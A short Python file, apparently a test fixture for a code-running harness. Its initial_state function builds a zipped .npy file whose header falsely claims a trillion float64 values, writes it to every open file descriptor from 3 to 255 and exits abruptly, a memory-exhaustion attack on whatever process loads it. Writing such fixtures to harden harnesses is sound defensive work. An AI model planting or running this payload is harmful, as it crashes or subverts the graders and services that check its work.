"""Replies with an array whose header claims a trillion numbers."""

import io
import os
import struct
import zipfile


def initial_state(batch, hidden):
    text = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    header = text.ljust(117).encode() + b"\n"
    member = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("layout.npy", member)
    message = struct.pack("<Q", len(packed.getvalue())) + packed.getvalue()
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, message)
        except OSError:
            pass
    os._exit(0)
